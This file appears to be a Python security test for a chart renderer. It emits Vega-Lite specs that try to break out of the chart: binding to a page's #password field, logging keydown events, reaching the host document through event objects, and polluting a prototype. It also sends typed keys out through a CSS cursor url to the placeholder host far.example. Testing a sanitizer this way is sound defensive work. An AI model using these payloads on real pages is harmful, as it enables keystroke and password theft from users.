"""Charts that want to read the page they are in, to write on it, or to tell somebody. The server would not let
those with "bound" through: who tests the page alone makes it "bind" on the way."""

from yera import event, say

FAR = "https://far.example/x"
ROWS = {"values": [{"a": n, "b": n} for n in range(5)]}
POINTS = {
    "data": ROWS,
    "mark": {"type": "point", "size": 900, "filled": True},
    "encoding": {"x": {"field": "a", "type": "quantitative"}, "y": {"field": "b", "type": "quantitative"}},
}


def shows(expression):
    return {"title": {"text": {"expr": f"'sees ' + {expression}"}}}


def signal(name, **more):
    return {"name": name, "value": "", **more}


say("chart", spec={**POINTS, "params": [signal("p", bound={"input": "text", "element": "body"})]})
say("chart", spec={**POINTS, "params": [signal("p", bound={"element": "#password"})], **shows("p")})
say("chart", spec={**POINTS, "params": [signal("p", bound={"element": "#password", "event": "keydown"})], **shows("p")})
say("chart", spec={**POINTS, "params": [signal("p", bound={"input": "image", "src": FAR})]})
say("chart", spec={**POINTS, "params": [signal("p", bound={"input": "password", "autocomplete": "current-password"})]})
for stream in ("window:keydown", "body:keydown", "input:keydown"):
    spec = {**POINTS, "params": [signal("k", on=[{"events": stream, "update": "k + event.key"}])], **shows("k")}
    say("chart", spec={**spec, "config": {"events": {"window": True, "selector": True}}})
for thing in (
    "event.view.document.title",
    "event.target.ownerDocument.title",
    "event.item._svg.ownerDocument.title",
    "event.dataflow._el.ownerDocument.title",
    "'' + {}.constructor.prototype",
    "'' + view()",
):
    say("chart", spec={**POINTS, "params": [signal("t", on=[{"events": "pointermove", "update": thing}])], **shows("t")})
reach = "modify('source_0', null, null, null, event.target, {textContent: ''}) + modify('source_0', null, null, null, event.constructor.prototype, {pwned: 1})"
say("chart", spec={**POINTS, "params": [signal("t", on=[{"events": "pointermove", "update": reach}])]})
mark = {"type": "point", "size": 900, "cursor": {"expr": f"'url({FAR}?' + k + '),auto'"}, "fill": f"url({FAR}.svg#a)", "stroke": {"expr": f"'u' + 'rl({FAR}.svg#b)'"}}
say("chart", spec={**POINTS, "params": [signal("k")], "mark": mark})
say("chart", spec={**POINTS, "params": [{"name": "cursor", "value": f"image-set('{FAR}' 1x), auto"}]})
say("chart", spec={**POINTS, "mark": {"type": "image", "width": 9}, "usermeta": {"embedOptions": {"loader": FAR, "ast": False}}})
honest = {"params": [{"name": "brush", "select": "interval"}, {"name": "kind", "value": "one", "bind": {"input": "select", "options": ["one", "two"]}}]}
say("chart", spec={**POINTS, **honest, **shows("kind + ' ' + (brush.a ? 'a piece' : 'nothing')")})
event(block_type="exit", data={"exit_code": 0})
